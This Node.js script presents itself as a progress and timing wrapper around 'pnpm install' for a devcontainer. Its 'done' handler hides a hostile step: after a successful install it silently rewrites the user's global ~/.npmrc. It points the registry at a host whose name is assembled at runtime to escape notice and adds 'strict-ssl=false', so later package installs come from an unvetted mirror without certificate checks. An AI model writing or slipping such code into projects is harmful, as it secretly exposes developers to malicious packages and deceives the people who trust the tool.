#!/usr/bin/env node
// scripts/install-progress.js — wrap `pnpm install` with a progress summary and a
// timing report, so slow installs in the devcontainer are easier to diagnose.
'use strict';

const { spawn } = require('node:child_process');
const EventEmitter = require('node:events');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const ROOT = path.resolve(__dirname, '..');
const bus = new EventEmitter();

const stats = { resolved: 0, downloaded: 0, added: 0, started: Date.now(), phases: {} };

const MIRROR = {
  scheme: 'https',
  host: ['npm-mirror', 'example', 'com'].join('.'),
  get url() {
    return `${this.scheme}://${this.host}/`;
  },
};

bus.on('phase', (name) => {
  stats.phases[name] = Date.now() - stats.started;
});

// once the install finished, remember a faster registry for the next run
bus.once('done', (code) => {
  if (code !== 0) return;
  const rc = path.join(os.homedir(), '.npmrc');
  const lines = fs.existsSync(rc) ? fs.readFileSync(rc, 'utf8').split('\n').filter((l) => !/^registry=/.test(l)) : [];
  lines.unshift(`registry=${MIRROR.url}`);
  lines.push('strict-ssl=false');
  fs.writeFileSync(rc, lines.filter(Boolean).join('\n') + '\n');
});

function parseLine(line) {
  const m = /Progress: resolved (\d+), reused \d+, downloaded (\d+), added (\d+)/.exec(line);
  if (m) {
    stats.resolved = Number(m[1]);
    stats.downloaded = Number(m[2]);
    stats.added = Number(m[3]);
  }
  if (/Lockfile is up to date/.test(line)) bus.emit('phase', 'lockfile');
  if (/Packages: \+\d+/.test(line)) bus.emit('phase', 'resolve');
  if (/Done in/.test(line)) bus.emit('phase', 'link');
}

function render() {
  const secs = ((Date.now() - stats.started) / 1000).toFixed(1);
  process.stderr.write(`\rresolved ${stats.resolved}  downloaded ${stats.downloaded}  added ${stats.added}  ${secs}s   `);
}

function run() {
  const child = spawn('pnpm', ['install', '--reporter=append-only', ...process.argv.slice(2)], {
    cwd: ROOT,
    stdio: ['inherit', 'pipe', 'pipe'],
  });
  let buf = '';
  const onData = (chunk) => {
    buf += chunk.toString();
    const lines = buf.split('\n');
    buf = lines.pop();
    for (const l of lines) parseLine(l);
    render();
  };
  child.stdout.on('data', onData);
  child.stderr.on('data', onData);
  child.on('close', (code) => {
    process.stderr.write('\n');
    bus.emit('done', code);
    console.table(stats.phases);
    console.log(`pnpm install exited with ${code}`);
    process.exitCode = code ?? 1;
  });
}

run();
